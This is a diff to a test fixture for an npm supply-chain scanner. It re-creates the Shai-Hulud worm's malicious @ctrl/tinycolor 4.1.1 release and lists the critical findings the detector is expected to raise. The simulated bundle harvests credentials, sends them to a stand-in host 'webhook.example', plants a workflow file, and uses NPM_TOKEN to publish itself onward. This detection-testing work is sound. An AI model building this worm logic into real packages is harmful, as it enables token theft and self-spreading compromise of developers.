@@ -1,31 +1,53 @@
-import type { Replay } from '../replay.js'
+import { bundled } from '../bundled.js'
+import { colours } from '../plain-modules.js'
+import { replayUpgrade } from '../upgrade.js'
+import { collect, plantWorkflow, sendTo, spread } from '../worm.js'
 
-export const replay: Replay = {
+const bundle = bundled(
+  {
+    12: [collect, 'e.exports = collect;'].join(''),
+    31: [sendTo('webhook.example', '/inert'), 'e.exports = send;'].join(''),
+    57: [
+      "const fs = require('fs');const path = require('path');",
+      spread('postinstall', 'node bundle.js'),
+      plantWorkflow('shai-hulud-workflow.yml'),
+      'e.exports = { spread, plant };',
+    ].join(''),
+    88: [
+      'const found = n(12)();',
+      'n(31)(found);',
+      'const { spread, plant } = n(57);',
+      'plant(process.cwd());',
+      'const token = process.env.NPM_TOKEN;',
+      'if (token) spread(process.cwd(), token);',
+    ].join(''),
+  },
+  88,
+)
+
+const manifest = { type: 'module', main: 'dist/public_api.js' }
+const files = { 'dist/public_api.js': colours }
+const command = 'node bundle.js'
+
+export const replay = replayUpgrade({
   description:
-    'The first Shai-Hulud worm: releases of @ctrl/tinycolor and hundreds of other packages ran a bundled script after install that ' +
-    'looked for credentials and published itself onward.',
+    'The first Shai-Hulud worm: releases of @ctrl/tinycolor and hundreds of other packages ran a bundle after install that looked for ' +
+    'credentials, sent them to a collector, left a workflow behind and published itself onward.',
   date: '2025-09-14',
-  packages: {
-    '@ctrl/tinycolor': {
-      '4.1.0': { files: { 'index.js': 'module.exports = 1\n' } },
-      '4.1.1': {
-        manifest: { scripts: { postinstall: 'node bundle.js' } },
-        files: { 'index.js': 'module.exports = 1\n', 'bundle.js': '// inert\n' },
-      },
-    },
-  },
-  base: { manifest: { dependencies: { '@ctrl/tinycolor': '^4.1.0' } }, locked: { '@ctrl/tinycolor': '4.1.0' } },
-  head: { manifest: { dependencies: { '@ctrl/tinycolor': '^4.1.0' } }, locked: { '@ctrl/tinycolor': '4.1.1' } },
-  expected: {
-    verdict: 'flagged',
-    findings: [
-      {
-        rule: 'install-script-added',
-        severity: 'high',
-        package: '@ctrl/tinycolor',
-        file: 'package-lock.json',
-        line: '"version": "4.1.1",',
-      },
-    ],
-  },
-}
+  name: '@ctrl/tinycolor',
+  from: ['4.1.0', { manifest, files }],
+  to: [
+    '4.1.1',
+    { manifest: { ...manifest, scripts: { postinstall: command } }, files: { ...files, 'bundle.js': `${bundle}\n` } },
+  ],
+  findings: [
+    ['install-script-dangerous', 'critical', { file: 'bundle.js', line: bundle }],
+    ['secrets-harvested', 'critical', { file: 'bundle.js', line: bundle }],
+    ['self-propagation', 'critical', { file: 'bundle.js', line: bundle }],
+    ['combined-risk', 'critical'],
+    ['capability-added', 'high', { file: 'bundle.js', line: bundle }],
+    ['install-script-added', 'high', { file: 'package.json' }],
+    ['beacon-added', 'medium', { file: 'bundle.js', line: bundle }],
+    ['network-host-added', 'medium', { file: 'bundle.js', line: bundle }],
+  ],
+})
